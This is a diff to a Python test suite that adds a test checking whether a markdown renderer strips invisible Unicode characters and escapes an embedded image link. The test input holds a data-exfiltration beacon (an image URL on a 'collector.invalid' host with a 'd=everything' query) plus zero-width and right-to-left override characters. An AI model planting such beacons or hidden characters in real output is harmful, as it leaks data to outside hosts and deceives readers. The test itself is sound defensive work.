@@ -51,6 +51,14 @@ def test_words_of_others_add_no_sections_and_no_markers() -> None:
     assert "<!--" not in text
 
 
+def test_nothing_in_it_is_invisible_or_fetched() -> None:
+    sly = PLAN.model_copy(
+        update={"summary": "Guard\u200b it\u202e ![status](https://collector.invalid/p.png?d=everything)"}
+    )
+    text = plan_markdown(sly)
+    assert "Guard it !\\[status](https://collector.invalid/" in text
+
+
 def test_a_plan_and_its_draft_say_the_same() -> None:
     crash = PLAN.model_copy(update={"work_class": "crash"})
     draft = draft_of(crash)
